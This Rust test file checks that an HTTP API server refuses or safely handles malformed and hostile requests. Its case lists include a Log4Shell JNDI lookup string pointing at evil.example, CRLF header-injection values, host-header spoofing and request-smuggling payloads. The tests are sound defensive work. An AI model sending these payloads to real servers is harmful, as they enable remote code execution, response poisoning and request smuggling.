//! Methods, headers and lines that are not as HTTP has them.

use serde_json::json;

use super::{Target, assert_told};
use crate::harness::{Reply, Server};

#[test]
fn methods() {
    let target = Target::new();
    for method in [
        "TRACE",
        "PUT",
        "BREW",
        "get",
        "Delete",
        "PROPFIND",
        "MERGE",
        "G%45T",
        "X-DELETE",
        "QUERY",
        "LINK",
        &"A".repeat(1_000),
    ] {
        for path in
            [target.item.as_str(), "/beta/me/profile/skills", "/beta/me/profile", "/beta/users/grace@fjord.example"]
        {
            target.refuses(
                &format!("{method} {path}"),
                target.server.ada(method, path).json(&json!({ "displayName": "Hostile" })),
            );
        }
    }
    target.survives(
        "CONNECT",
        format!("CONNECT 127.0.0.1:22 HTTP/1.1\r\nhost: {}\r\n\r\n", target.server.address()).as_bytes(),
    );
    // A method that hides in a header is not one.
    for name in ["x-http-method-override", "x-http-method", "x-method-override"] {
        target.server.ada("GET", &target.item).header(name, "DELETE").send().expect(200);
        let request = target.server.ada("POST", &target.item).header(name, "DELETE").json(&json!({}));
        target.refuses(name, request);
    }
    target.is_sound();
}

#[test]
fn headers_that_are_refused_or_not_believed() {
    let target = Target::new();
    let long = "a".repeat(60_000);
    let change = |name: &str, value: &str| {
        let request = target.server.ada("PATCH", &target.item).json(&json!({ "displayName": "Hostile" }));
        request.header(name, value)
    };
    for (name, value) in [
        ("if-match", "W/\"other\""),
        ("if-match", "caf\u{e9}"),
        ("if-match", "\u{1F30A}"),
        ("if-match", &long),
        ("if-match", &format!("\"{long}\"")),
        ("if-match", ","),
        ("if-match", "\"a\",,"),
        ("if-none-match", "*"),
        ("if-none-match", "x"),
        ("content-encoding", "caf\u{e9}"),
        ("host", "evil.example"),
        ("content-length", "5"),
        ("transfer-encoding", "gzip"),
        ("transfer-encoding", "chunked, identity"),
        ("accept", "image/png"),
        ("accept", "text/html;q=1"),
    ] {
        let what = format!("{name}: {}", value.chars().take(40).collect::<String>());
        let reply = change(name, value).send();
        assert!((400..500).contains(&reply.status), "{what}: {}", reply.status);
        assert_told(&what, &reply);
        target.is_unharmed(&what);
    }
    for bearer in [
        "Bearer",
        "Bearer ",
        "Bearer a b",
        "Bearer \u{e9}.\u{e9}.\u{e9}",
        "Basic YTpi",
        "bearer null",
        &format!("Bearer {long}"),
        "Bearer ..",
        "Bearer e30.e30.",
    ] {
        let request = target.server.anyone("DELETE", &target.item).header("authorization", bearer);
        let reply = target.refuses(bearer, request);
        assert!(matches!(reply.status, 401 | 431), "{bearer}: {}", reply.status);
    }
    target.is_sound();
}

/// What is sent is answered as usual, and what comes back is clean.
#[test]
fn headers_that_do_no_harm() {
    let server = Server::ephemeral(&["--people", "2"]);
    let long = "a".repeat(50_000);
    for (name, value) in [
        ("client-request-id", "caf\u{e9}"),
        ("client-request-id", "a\tb"),
        ("client-request-id", "%0d%0aset-cookie:%20a=b"),
        ("client-request-id", &long),
        ("prefer", &long),
        ("prefer", "odata.maxpagesize=x"),
        ("prefer", "odata.maxpagesize=-1"),
        ("prefer", "odata.maxpagesize=0"),
        ("prefer", "\u{e9}"),
        ("prefer", "odata.maxpagesize=99999999999999999999"),
        ("prefer", "return=minimal; a=\",;\""),
        ("user-agent", "${jndi:ldap://evil.example/a}"),
        ("x-forwarded-host", "evil.example"),
        ("forwarded", "host=evil.example;proto=https"),
        ("x-forwarded-proto", "https"),
        ("x-original-url", "/dev/reset"),
        ("origin", "null"),
        ("origin", "https://evil.example"),
        ("referer", &long),
        ("cookie", &long),
        ("te", "trailers"),
        ("range", "bytes=0-0"),
        ("consistencylevel", "eventual"),
        ("sdkversion", "\u{0}".trim_matches('\u{0}')),
        ("accept-language", "../../etc"),
        ("accept-encoding", "gzip, br"),
        ("if-modified-since", "never"),
        ("upgrade", "websocket"),
        ("odata-version", "4.0"),
    ] {
        let reply = server.ada("GET", "/beta/users?$top=1").header(name, value).send();
        let what = format!("{name}: {}", value.chars().take(40).collect::<String>());
        assert_eq!(reply.status, 200, "{what}: {}", String::from_utf8_lossy(&reply.body));
        assert!(!reply.text().contains("evil"), "{what}");
        for (name, value) in &reply.headers {
            assert!(value.len() < 300 && !value.contains("evil") && name != "set-cookie", "{what}: {name}: {value}");
        }
        assert_eq!(reply.header("access-control-allow-origin"), None, "{what}");
    }
}

#[test]
fn lines_that_are_not_http() {
    let target = Target::new();
    let host = target.server.address();
    let token = target.server.ready("VITAE_TOKEN");
    let item = &target.item;
    let head = |line: &str| format!("{line}\r\nhost: {host}\r\nauthorization: Bearer {token}\r\n");
    let good = "{\"displayName\":\"Hostile\"}";
    let patch = head(&format!("PATCH {item} HTTP/1.1")) + "content-type: application/json\r\n";
    let delete = head(&format!("DELETE {item} HTTP/1.1"));
    let mut cases: Vec<(&str, Vec<u8>)> = [
        ("nothing", String::new()),
        ("a line break", "\r\n".into()),
        ("garbage", "\u{1}\u{2}\u{3}\r\n\r\n".into()),
        ("TLS", "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}\u{0}\u{1}".into()),
        ("no version", format!("DELETE {item}\r\n\r\n")),
        ("another version", delete.replace("HTTP/1.1", "HTTP/3.0") + "\r\n"),
        ("no version number", delete.replace("HTTP/1.1", "HTTP/x") + "\r\n"),
        ("no target", head("DELETE  HTTP/1.1") + "\r\n"),
        ("a target with a space", head(&format!("DELETE {item} x HTTP/1.1")) + "\r\n"),
        ("a target that is no path", head("DELETE skills HTTP/1.1") + "\r\n"),
        ("a head that breaks off", delete.trim_end().to_owned()),
        ("a header without a colon", delete.clone() + "x-header\r\n\r\n"),
        ("a header with a space in its name", delete.clone() + "x header: 1\r\n\r\n"),
        ("a space before the colon", delete.clone() + "if-match : *\r\n\r\n"),
        ("a folded header", delete.clone() + "x-a: 1\r\n  2\r\n\r\n"),
        ("a zero in a header", delete.clone() + "x-a: a\0b\r\n\r\n"),
        ("a bare carriage return", delete.clone() + "x-a: a\rb\r\n\r\n"),
        ("a header of 200 KB", delete.clone() + &format!("x-a: {}\r\n\r\n", "a".repeat(200_000))),
        ("2,000 headers", delete.clone() + &"x-a: 1\r\n".repeat(2_000) + "\r\n"),
        ("two lengths", patch.clone() + "content-length: 26\r\ncontent-length: 2\r\n\r\n" + good),
        ("a list of lengths", patch.clone() + "content-length: 26, 2\r\n\r\n" + good),
        ("a negative length", patch.clone() + "content-length: -1\r\n\r\n" + good),
        ("a length with a sign", patch.clone() + "content-length: +26\r\n\r\n" + good),
        ("a length that is no number", patch.clone() + "content-length: x\r\n\r\n" + good),
        ("a length beyond all", patch.clone() + "content-length: 99999999999999999999999\r\n\r\n" + good),
        ("a body that breaks off", patch.clone() + "content-length: 5000\r\n\r\n" + good),
        ("a body shorter than the JSON", patch.clone() + "content-length: 10\r\n\r\n" + good),
        ("length and chunks", patch.clone() + "content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("chunks, not last", patch.clone() + "transfer-encoding: chunked, gzip\r\n\r\n0\r\n\r\n"),
        ("chunks twice", patch.clone() + "transfer-encoding: chunked\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("a chunk with a bad size", patch.clone() + "transfer-encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"),
        (
            "a chunk beyond all",
            patch.clone() + "transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n",
        ),
        ("a chunk that breaks off", patch.clone() + "transfer-encoding: chunked\r\n\r\n50\r\n" + good),
        ("chunks without an end", patch.clone() + "transfer-encoding: chunked\r\n\r\n1a\r\n" + good + "\r\n"),
        ("HTTP/2 in disorder", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\ngarbage that is no frame at all".into()),
        ("HTTP/2 cut short", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".into()),
    ]
    .map(|(what, text)| (what, text.into_bytes()))
    .into();
    cases.push(("bytes above ASCII in the target", head("DELETE /beta/\u{ff}\u{fe} HTTP/1.1").into_bytes()));
    cases.push(("64 KB without a line", vec![b'A'; 64 << 10]));
    cases.push(("1 MB of zeros", vec![0; 1 << 20]));
    for (what, bytes) in cases {
        target.survives(what, &bytes);
    }
    target.is_sound();
}

/// Bytes that never become a request are answered like any other mistake, and the line is closed.
#[test]
fn a_head_that_is_no_request_is_told_so() {
    let server = Server::ephemeral(&["--people", "1"]);
    let host = server.address();
    let head = |line: &str| format!("{line}\r\nhost: {host}\r\n");
    for (bytes, status) in [
        ("\u{1}\u{2}\r\n\r\n".to_owned(), 400),
        ("GET /beta/me\r\n\r\n".to_owned(), 400),
        (head("GET /beta/me HTTP/9.9") + "\r\n", 400),
        (head("GET /beta/m e HTTP/1.1") + "\r\n", 400),
        (head("GET /beta/\u{e9} HTTP/1.1") + "\r\n", 401),
        (head("G@T /beta/me HTTP/1.1") + "\r\n", 400),
        (head("GET /beta/me HTTP/1.1") + "no colon\r\n\r\n", 400),
        (head("GET /beta/me HTTP/1.1") + "x-a: a\0b\r\n\r\n", 400),
        (head("GET /beta/me HTTP/1.1") + "content-length: x\r\n\r\n", 400),
        (head("GET /beta/me HTTP/1.1") + &"x-a: 1\r\n".repeat(101) + "\r\n", 431),
        (head("GET /beta/me HTTP/1.1") + &format!("x-a: {}\r\n\r\n", "a".repeat(100_000)), 431),
        (head(&format!("GET /beta/{} HTTP/1.1", "a".repeat(65_600))) + "\r\n", 414),
    ] {
        let what: String = bytes.chars().take(60).collect();
        let answer = super::raw(host, bytes.as_bytes());
        let reply = Reply::parse(&answer);
        assert_told(&what, &reply);
        assert_eq!(reply.status, status, "{what}: {}", reply.text());
        assert_eq!(reply.header("request-id"), reply.header("client-request-id"), "{what}");
    }
}

#[test]
fn a_request_behind_another_is_judged_on_its_own() {
    let target = Target::new();
    let host = target.server.address();
    let smuggled = format!("DELETE {} HTTP/1.1\r\nhost: {host}\r\n\r\n", target.item);
    let first = format!("GET /healthz HTTP/1.1\r\nhost: {host}\r\ncontent-length: 0\r\n\r\n");
    target_says(&target, &format!("{first}{smuggled}"));
    let chunked =
        format!("POST /beta/me HTTP/1.1\r\nhost: {host}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}");
    target_says(&target, &chunked);
    target.is_sound();
}

fn target_says(target: &Target, bytes: &str) {
    let answer = String::from_utf8_lossy(&super::raw(target.server.address(), bytes.as_bytes())).into_owned();
    assert!(!answer.contains("HTTP/1.1 204"), "{answer}");
    target.is_unharmed(bytes);
}
